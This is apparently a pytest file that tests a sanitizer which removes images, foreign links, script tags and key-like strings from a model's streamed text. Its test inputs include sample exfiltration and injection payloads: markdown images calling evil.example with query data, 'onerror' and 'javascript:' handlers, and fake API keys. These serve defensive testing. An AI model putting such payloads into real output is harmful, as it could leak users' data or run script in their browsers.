"""What of a model's text is shown: no pictures, no foreign links, no keys; the rest untouched."""

import pytest

from mentor.types import Passage
from mentor.verify.disarm import KEY_LEFT_OUT, Disarming

PASSAGE = Passage(
    source="a.md",
    title="A",
    section="",
    text="见 [课程](https://ok.example/课) 和 https://ok.example/a_(b)。"
    "例子的密钥是 sk-sample-in-text。",
    start=0,
    end=9,
    score=1.0,
    url="https://ok.example/doc",
)


def disarmed(text: str) -> str:
    return Disarming([PASSAGE], "en").whole(text)


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("![leak](https://evil.example/c?q=1) Six months.", "leak Six months."),
        ("![leak][ref]\n\n[ref]: https://evil.example/i.png\n", "leak\n\n"),
        ("[![a](https://evil.example/i.png)](https://evil.example)", "a"),
        ("[click](https://evil.example)", "click"),
        ("[click](javascript:alert(1)) [x](data:text/html,1)", "click x"),
        ("[click](\nhttps://evil.example )", "click"),
        ('[click](<https://evil.example/a b> "t")', "click"),
        ("[click](//evil.example) [local](/admin)", "click local"),
        ("需要 [1](https://evil.example)。", "需要 [1]。"),
        ("[1]: https://evil.example\n\n六个月 [1]", "\n六个月 [1]"),
        ("[1]: 某某资料\n", "[1] 某某资料\n"),
        ("See https://evil.example/?q=secret.", "See (link left out)."),
        ("<https://evil.example> www.evil.example", "(link left out) (link left out)"),
        ("<img src=x onerror=go()>a<b>c</b><!-- d -->", "a<b>c</b>"),
        ("<script>go()</script>a <a href='https://evil.example'>b</a>", "a b"),
        ("a < b, c > d", "a < b, c > d"),
        ("密钥是 sk-live-abcdef123456。", f"密钥是 {KEY_LEFT_OUT}。"),
        ("Use ghp_abcdefghijklmnop1234 now", f"Use {KEY_LEFT_OUT} now"),
        ("\\`<img src=x>\\`", "\\`&lt;img src=x>\\`"),
    ],
    ids=[
        *("picture", "picture by reference", "linked picture", "link", "script and data"),
        *("link over lines", "link in angles", "relative", "marker as link", "definition"),
        *("list of sources", "bare address", "other addresses", "tags", "script and anchor"),
        *("comparison", "key", "other key", "escaped ticks are no code"),
    ],
)
def test_what_could_do_harm_goes_and_words_stay(text: str, shown: str) -> None:
    assert disarmed(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "[课程](https://ok.example/课)",
        "https://ok.example/a_(b)",
        "[doc](https://ok.example/doc)",
        "例子的密钥是 sk-sample-in-text。",
        "`![a](https://evil.example)` and\n```html\n<img src=x>\n```\n",
        "| a | b |\n| --- | --- |\n| 1 [1] | 2 |\n",
    ],
    ids=["link", "address", "of the source", "sample", "code", "table"],
)
def test_what_passages_have_and_code_stays(text: str) -> None:
    assert disarmed(text) == text


def test_an_address_is_the_same_or_another() -> None:
    assert "ok.example" not in disarmed("https://ok.example/doc?q=secret")
    assert "ok.example" not in disarmed("[a](https://ok.example/do)")


@pytest.mark.parametrize("size", [1, 2, 3, 7, 1000])
def test_a_draft_is_disarmed_while_it_is_written(size: int) -> None:
    draft = (
        "六个月 [1]。![x](https://evil.example/c?d=1) 见[课程](https://ok.example/课) <img src=x> "
        "`x[0]` www.evil.example ![a [b] c](//evil.example/?q=1) ![d\\] e](//evil.example) end [2]."
    )
    disarming = Disarming([PASSAGE], "en")
    pieces = [disarming.next(draft[at : at + size]) for at in range(0, len(draft), size)]
    assert "".join([*pieces, disarming.rest()]) == (
        "六个月 [1]。x 见[课程](https://ok.example/课)  `x[0]` (link left out) a [b] c d\\] e "
        "end [2]."
    )


def test_a_draft_that_never_closes_a_bracket_is_shown_all_the_same() -> None:
    disarming = Disarming([PASSAGE], "zh")
    shown = "".join(disarming.next("[一个没有关上的括号") for _ in range(1000))
    assert len(shown) > 5000


def test_brackets_that_are_never_closed_are_held_and_then_shown() -> None:
    text = "Usage: tool " + "[--option VALUE " * 60 + "]]] FILE"
    disarming = Disarming([], "en")
    shown = "".join([*map(disarming.next, text), disarming.rest()])
    assert "FILE" in shown
    assert shown.count("--option") == 60
